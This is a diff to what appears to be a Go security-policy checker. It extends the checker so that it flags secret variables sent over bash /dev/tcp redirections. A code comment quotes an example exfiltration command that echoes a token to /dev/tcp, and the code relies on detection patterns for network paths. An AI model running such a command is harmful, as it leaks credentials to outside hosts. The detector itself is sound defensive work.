@@ -6,6 +6,7 @@ package policy
 // secret-bearing variables sent to a host that is not their service.
 
 import (
+	"cmp"
 	"path"
 	"slices"
 	"strings"
@@ -380,7 +381,15 @@ var destinationVarRe = &lazyregexp.Regexp{Expr: `(?i)(URL|URI|ENDPOINT|HOST|HOST
 // names the variable, never its value.
 func checkSecretVarSent(c *Call) Finding {
 	name := c.Ex.Name
-	if name == "" || slices.Contains(dataCommands, name) {
+	// echo "$TOKEN" > /dev/tcp/host/80: bash opens the connection, so
+	// even a data program sends what it prints.
+	socketHost := ""
+	for _, r := range c.Ex.Redirs {
+		if r.Writes() && netPathRe.MatchString(r.Target) {
+			socketHost = strings.ToLower(strings.Split(r.Target, "/")[3])
+		}
+	}
+	if socketHost == "" && (name == "" || slices.Contains(dataCommands, name)) {
 		return Finding{}
 	}
 	web, remote, dns := slices.Contains(webClients, name), slices.Contains(remoteRunners, name), slices.Contains(dnsLookups, name)
@@ -404,6 +413,20 @@ func checkSecretVarSent(c *Call) Finding {
 				}
 			}
 		}
+	}
+	if socketHost != "" {
+		for _, a := range c.Args {
+			scan(a)
+		}
+		for _, r := range c.Ex.Redirs {
+			if r.Op == "<<<" {
+				scan(r.Target)
+			}
+		}
+		if in := c.Ex.Stdin; in != nil && in.HasText {
+			scan(in.Text)
+		}
+		return sentTo(cmp.Or(name, "a redirection"), vars, []string{socketHost})
 	}
 	if !web && !remote && !dns {
 		// Any other program: only URLs it is given are requests.
